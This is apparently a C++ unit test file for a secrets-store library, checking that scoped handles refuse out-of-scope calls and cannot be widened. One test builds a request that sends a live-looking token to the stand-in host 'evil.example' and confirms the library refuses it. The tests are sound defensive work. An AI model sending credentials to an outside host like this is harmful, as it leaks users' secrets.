// Scoped Store handles: every call outside a handle's scopes is refused with
// permission_denied before a backend is touched, and no handle is widened.
#include <boost/test/unit_test.hpp>

#include "tests/support/test_support.hpp"
#include "tresor/store.hpp"

using tresor::Error;
using tresor::ErrorCode;
using tresor::Scope;
using tresor::Scopes;
using tresor::Secret;
using tresor::Store;
using tresor::test::kMemoryConfig;

namespace {

bool denied(const Error& e) {
    return e.code() == ErrorCode::permission_denied;
}

}  // namespace

BOOST_AUTO_TEST_SUITE(scopes)

BOOST_AUTO_TEST_CASE(an_opened_store_holds_every_scope_unless_told_otherwise) {
    BOOST_TEST((Store::from_toml(kMemoryConfig).scopes() == Scopes::all()));
    tresor::OpenOptions options;
    options.config_toml = kMemoryConfig;
    options.scopes = {Scope::metadata};
    Store store = Store::open(options);
    BOOST_TEST((store.scopes() == Scopes{Scope::metadata}));
    BOOST_CHECK_EXCEPTION(store.set({"svc", "k"}, Secret("v")), Error, denied);
    BOOST_TEST(store.list().empty());
}

// Seed 003's applet: it stores and reads metadata, never a value.
BOOST_AUTO_TEST_CASE(a_store_and_metadata_handle_cannot_read_a_value_back) {
    Store owner = Store::from_toml(kMemoryConfig);
    Store applet = owner.narrowed({Scope::store, Scope::metadata});
    applet.set({"shop", "token"}, Secret("shpat_123"));
    BOOST_REQUIRE(applet.entry({"shop", "token"}).has_value());
    BOOST_TEST(applet.list("shop").size() == 1u);
    BOOST_CHECK_EXCEPTION((void)applet.get({"shop", "token"}), Error, [](const Error& e) {
        return denied(e) && std::string(e.what()).find("'read'") != std::string::npos &&
               std::string(e.what()).find("shpat") == std::string::npos;
    });
    // The owner's handle shares the backend and keeps its scopes.
    BOOST_TEST(std::string(owner.get({"shop", "token"})->view()) == "shpat_123");
    BOOST_TEST(applet.remove({"shop", "token"}));
}

BOOST_AUTO_TEST_CASE(each_call_needs_its_scope) {
    Store owner = Store::from_toml(kMemoryConfig);
    owner.set({"svc", "k"}, Secret("v"));
    const Store none = owner.narrowed({});
    Store h = none;
    BOOST_CHECK_EXCEPTION(h.set({"svc", "k"}, Secret("w")), Error, denied);
    BOOST_CHECK_EXCEPTION((void)h.remove({"svc", "k"}), Error, denied);
    BOOST_CHECK_EXCEPTION((void)h.get({"svc", "k"}), Error, denied);
    BOOST_CHECK_EXCEPTION((void)h.entry({"svc", "k"}), Error, denied);
    BOOST_CHECK_EXCEPTION((void)h.list("svc"), Error, denied);
    BOOST_CHECK_EXCEPTION((void)h.list(), Error, denied);
    BOOST_CHECK_EXCEPTION((void)h.backends(), Error, denied);
    BOOST_CHECK_EXCEPTION((void)h.plugins(), Error, denied);
    // Nothing was changed by the refused calls.
    BOOST_TEST(std::string(owner.get({"svc", "k"})->view()) == "v");

    Store reader = owner.narrowed({Scope::read});
    BOOST_TEST(std::string(reader.get({"svc", "k"})->view()) == "v");
    BOOST_CHECK_EXCEPTION((void)reader.list(), Error, denied);
}

// Seed 003's requestAuthed, for a program or an agent: a handle with only
// `use` has tresor make requests and cannot read the value by any call.
BOOST_AUTO_TEST_CASE(a_use_handle_reads_no_value_by_any_call) {
    Store owner = Store::from_toml(kMemoryConfig);
    tresor::SetOptions options;
    options.type = tresor::SecretType::bearer_token;
    options.attributes = {{"origins", "https://api.example.com"}};
    owner.set({"svc", "k"}, Secret("sk_live_1"), options);
    Store user = owner.narrowed({Scope::use});
    BOOST_CHECK_EXCEPTION((void)user.get({"svc", "k"}), Error, denied);
    BOOST_CHECK_EXCEPTION((void)user.header({"svc", "k"}), Error, denied);
    BOOST_CHECK_EXCEPTION((void)user.entry({"svc", "k"}), Error, denied);
    BOOST_CHECK_EXCEPTION((void)user.list(), Error, denied);
    BOOST_CHECK_EXCEPTION(user.set({"svc", "k"}, Secret("x"), options), Error, denied);
    const std::vector<tresor::NewSecret> batch{{{"svc", "k"}, Secret("x"), options}};
    BOOST_CHECK_EXCEPTION(user.set_many(batch), Error, denied);
    BOOST_CHECK_EXCEPTION((void)user.remove({"svc", "k"}), Error, denied);
    BOOST_CHECK_EXCEPTION((void)user.narrowed({Scope::read}), Error, denied);
    // What it may do: a request, refused here before anything is sent (the
    // origin is not the credential's), the message naming origins only.
    tresor::HttpRequest request;
    request.url = "https://evil.example/?k=sk_live_1";
    BOOST_CHECK_EXCEPTION((void)user.request({"svc", "k"}, request), Error, [](const Error& e) {
        const std::string what = e.what();
        return denied(e) && what.find("https://evil.example is not an origin") == 0 &&
               what.find("https://api.example.com") != std::string::npos;
    });
    BOOST_TEST(!user.request({"svc", "missing"}, request).has_value());
    // A handle without `use` cannot make one, even with every other scope.
    BOOST_CHECK_EXCEPTION((void)owner.narrowed({Scope::metadata, Scope::read, Scope::store})
                              .request({"svc", "k"}, request),
                          Error, denied);
    BOOST_TEST(std::string(owner.get({"svc", "k"})->view()) == "sk_live_1");
}

BOOST_AUTO_TEST_CASE(a_credential_without_origins_is_sent_nowhere) {
    Store owner = Store::from_toml(kMemoryConfig);
    tresor::SetOptions options;
    options.type = tresor::SecretType::api_key;
    owner.set({"svc", "k"}, Secret("v"), options);
    tresor::HttpRequest request;
    request.url = "https://api.example.com/";
    BOOST_CHECK_EXCEPTION((void)owner.request({"svc", "k"}, request), Error, [](const Error& e) {
        return denied(e) && std::string(e.what()).find("names no origins") != std::string::npos;
    });
}

BOOST_AUTO_TEST_CASE(a_narrowed_handle_is_never_widened) {
    Store owner = Store::from_toml(kMemoryConfig);
    Store applet = owner.narrowed({Scope::store, Scope::metadata});
    BOOST_CHECK_EXCEPTION((void)applet.narrowed(Scopes::all()), Error, denied);
    BOOST_CHECK_EXCEPTION((void)applet.narrowed({Scope::read}), Error, denied);
    BOOST_CHECK_EXCEPTION((void)applet.narrowed({Scope::use, Scope::store}), Error, denied);
    // A copy keeps its scopes; narrowing further works.
    Store copy = applet;
    BOOST_TEST((copy.scopes() == applet.scopes()));
    BOOST_TEST((copy.narrowed({Scope::metadata}).scopes() == Scopes{Scope::metadata}));
    copy = copy.narrowed({Scope::store});
    BOOST_TEST((copy.scopes() == Scopes{Scope::store}));
}

BOOST_AUTO_TEST_CASE(scope_names_round_trip) {
    for (Scope s : {Scope::metadata, Scope::store, Scope::read, Scope::use}) {
        BOOST_TEST((tresor::scope_from_string(tresor::to_string(s)) == s));
    }
    BOOST_TEST(!tresor::scope_from_string("admin").has_value());
    BOOST_TEST((Scopes::from_bits(0xffu) == Scopes::all()));
}

BOOST_AUTO_TEST_SUITE_END()
